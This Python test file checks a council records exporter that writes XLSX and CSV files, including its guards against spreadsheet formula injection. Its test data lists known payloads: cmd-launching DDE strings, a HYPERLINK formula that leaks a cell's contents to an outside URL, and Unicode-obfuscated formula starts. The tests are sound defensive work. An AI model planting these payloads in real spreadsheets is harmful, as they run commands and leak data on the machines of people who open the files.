import csv
import io
import unicodedata
import zipfile
from datetime import date
from decimal import Decimal
from fractions import Fraction

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from council_desk.services.sheets import (
    XLSX_TEXT_LIMIT,
    Number,
    Table,
    as_csv,
    as_workbook,
    as_xlsx,
    begins_like_formula,
    clean,
    safe_for_csv,
)

DAY = date(2026, 11, 12)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"Error")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u200f=1+1",
    "\u200e\u2067-1",
    "\ufeff@x",
    "\u115f=1",
    "\u3164 =1",
    "\x00=1",
    "\u202e=1",
    "\ufe0f=1",
    "\U00018cd6=1",
    "۱۲ = ok",
]
HOSTILE = st.one_of(
    st.text(max_size=40),
    st.text(
        st.sampled_from("=+-@'\"\t\r\n ,;|\u200f\u200e\u202e\u2067\ufeff\u115f\u3164＝＋－＠﹢⁼1aی\x00\x1f\ud800"),
        max_size=12,
    ),
    st.sampled_from(FORMULAS),
)


def read_csv(data: bytes, separator: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "without the mark Excel takes UTF-8 for the computer's old code page"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def first_visible(text: str) -> str:
    """What a program that skips what nobody sees would begin with; apart from our own rule."""
    for letter in unicodedata.normalize("NFKC", text):
        if unicodedata.category(letter)[0] not in "ZC" and letter not in "\u115f\u1160\u3164\ufe0f":
            return letter
    return ""


# -------------------------------------------------------------------------------------------------------------- XLSX


def test_xlsx_holds_days_as_days_and_numbers_as_numbers():
    sheet = read_xlsx(as_xlsx([("2026/62", DAY, 5, None)], ["Number", "Date", "For", "Note"], name="Decisions"))
    assert [cell.value for cell in sheet[1]] == ["Number", "Date", "For", "Note"]
    number, day, count, note = sheet[2]
    assert (number.value, number.data_type) == ("2026/62", "s")
    assert day.value.date() == DAY and day.is_date and day.number_format == "yyyy-mm-dd"
    assert count.value == 5 and count.data_type == "n" and note.value is None
    assert sheet.title == "Decisions" and sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:D2"
    assert not sheet.sheet_view.rightToLeft


def test_a_sheet_runs_as_its_language_does():
    sheet = read_xlsx(as_xlsx([("۶۲",)], ["شماره"], right_to_left=True, name="مصوبات"))
    assert sheet.sheet_view.rightToLeft and sheet.title == "مصوبات"


@pytest.mark.parametrize("name", ["", "'", "a/b:c*d?e[f]g\\h", "History", "x" * 80, "\x00\x1f", "'quoted'"])
def test_every_name_gives_a_sheet(name):
    assert 1 <= len(read_xlsx(as_xlsx([("x",)], ["y"], name=name)).title) <= 31


def test_days_before_spreadsheets_are_text():
    sheet = read_xlsx(as_xlsx([(date(1899, 12, 31),), (date(1900, 1, 1),)], ["Day"]))
    assert sheet["A2"].value == "1899-12-31" and sheet["A3"].is_date


def test_a_text_longer_than_a_cell_is_shortened_between_letters():
    for letter in ("a", "ی", "😀"):
        value = read_xlsx(as_xlsx([(letter * 40_000,)], ["Text"]))["A2"].value
        assert len(value.encode("utf-16-le")) // 2 <= XLSX_TEXT_LIMIT and value.endswith("…")
        assert set(value[:-1]) == {letter}


@settings(max_examples=150, deadline=None)
@given(st.lists(HOSTILE, min_size=1, max_size=4))
@example(FORMULAS)
def test_no_text_becomes_a_formula_a_link_or_a_number_in_xlsx(texts):
    data = as_xlsx([(text,) for text in texts], ["=1+1"])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet
    cells = [row[0] for row in read_xlsx(data).iter_rows(max_row=len(texts) + 1)]
    assert [cell.data_type for cell in cells if cell.value is not None] == ["s"] * sum(
        cell.value is not None for cell in cells
    )
    assert [cell.value or "" for cell in cells] == ["=1+1", *(clean(text) for text in texts)]


# --------------------------------------------------------------------------------------------------------------- CSV


def test_csv_is_read_back_with_days_as_iso():
    rows = read_csv(
        as_csv([("2026/62", DAY, 5, None, 'He said: "yes, no"\nand left')], ["Number", "Date", "For", "", "T"])
    )
    assert rows == [
        ["Number", "Date", "For", "", "T"],
        ["2026/62", "2026-11-12", "5", "", 'He said: "yes, no"\nand left'],
    ]


def test_csv_parts_by_the_separator_that_is_asked_for():
    data = as_csv([("a,b", "c;d")], ["x", "y"], separator=";")
    assert read_csv(data, ";")[1] == ["a,b", "c;d"] and b'"a,b";"c;d"' in data


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_known_payloads_get_an_apostrophe(text):
    (_, (cell,)) = read_csv(as_csv([(text,)], ["x"]))
    assert cell.startswith("'") and not begins_like_formula(cell)


@pytest.mark.parametrize("text", ["plain", "۱۲ = ok", "a-b", "– dash", "'quoted", "1 − 1", "", "№ 4.1", "می‌شود"])
def test_other_texts_stay_as_they_are(text):
    assert safe_for_csv(text) == text


def test_what_another_separator_would_part_off_is_guarded_too():
    assert safe_for_csv('x;=HYPERLINK("a")') == 'x;\'=HYPERLINK("a")' and safe_for_csv('x;"=1+1') == "x;'\"=1+1"
    assert safe_for_csv("x,=1", ";") == "x,'=1" and safe_for_csv("x,=1", ",") == "x,=1"
    assert safe_for_csv("frost; -5 at night") == "frost; -5 at night" and safe_for_csv("a\t@b") == "a\t'@b"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(HOSTILE, min_size=2, max_size=2), min_size=1, max_size=4), st.sampled_from(",;"))
def test_nothing_in_csv_begins_like_a_formula_and_nothing_is_lost(rows, separator):
    back = read_csv(as_csv(rows, ["=x", "@y"], separator=separator), separator)
    assert back[0] == ["'=x", "'@y"] and len(back) == len(rows) + 1
    for given_row, row in zip(rows, back[1:], strict=True):
        assert len(row) == 2
        for text, cell in zip(given_row, row, strict=True):
            assert first_visible(cell) not in set("=+-@") and cell[:1] not in {"\t", "\r"}
            assert cell.replace("'", "") == clean(text).replace("'", "")


@given(HOSTILE)
def test_cleaning_twice_changes_nothing_more(text):
    once = clean(text)
    assert clean(once) == once and not set(once) & {"\x00", "\r", "\u202e", "\ufffe"}
    assert once.encode("utf-8").decode("utf-8") == once


def workbook(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_a_workbook_has_a_sheet_for_each_table_with_its_totals():
    tables = [
        Table(
            "Meetings", ["Meeting", "Day", "Share"], [[1, DAY, Number(Fraction(2, 3), percent=True)]], ["Sum", None, 5]
        ),
        Table("Budget", ["Item", "Amount"], [["Planned", Number(Fraction(125050, 100), 2)], ["Rials", Decimal("7.5")]]),
    ]
    book = workbook(as_workbook(tables, right_to_left=True))
    assert book.sheetnames == ["Meetings", "Budget"]
    assert all(sheet.sheet_view.rightToLeft for sheet in book)
    meetings, budget = book["Meetings"], book["Budget"]
    assert [cell.value for cell in meetings[1]] == ["Meeting", "Day", "Share"] and meetings.freeze_panes == "A2"
    assert meetings["A2"].value == 1 and meetings["B2"].value.date() == DAY
    assert meetings["C2"].value == pytest.approx(2 / 3) and meetings["C2"].number_format == "0%"
    assert [meetings[f"{column}3"].value for column in "ABC"] == ["Sum", None, 5] and meetings["A3"].font.bold
    assert meetings.auto_filter.ref == "A1:C2", "totals are not sorted among the rows"
    assert budget["B2"].value == 1250.5 and budget["B2"].number_format == "#,##0.00" and budget["B3"].value == 7.5


def test_names_of_sheets_are_mended_and_never_the_same():
    names = ["Needs / wishes", "needs   wishes", "Needs : wishes", "x" * 40, "x" * 40, "", "History"]
    book = workbook(as_workbook([Table(name, ["A"], [[1]]) for name in names]))
    assert len({name.casefold() for name in book.sheetnames}) == len(names)
    assert all(0 < len(name) <= 31 for name in book.sheetnames)


@given(texts=st.lists(HOSTILE, min_size=1, max_size=6))
@settings(max_examples=30, deadline=None)
def test_no_text_of_a_workbook_becomes_a_formula_or_a_link(texts):
    table = Table("t", texts, [texts, texts], texts)
    sheet = workbook(as_workbook([table]))["t"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" and cell.hyperlink is None for cell in cells)


def test_numbers_in_csv_are_numbers():
    rows = read_csv(as_csv([[Number(Fraction(5, 2), 1), Decimal("1.25")]], ["A", "B"]))
    assert rows[1] == ["2.5", "1.25"]
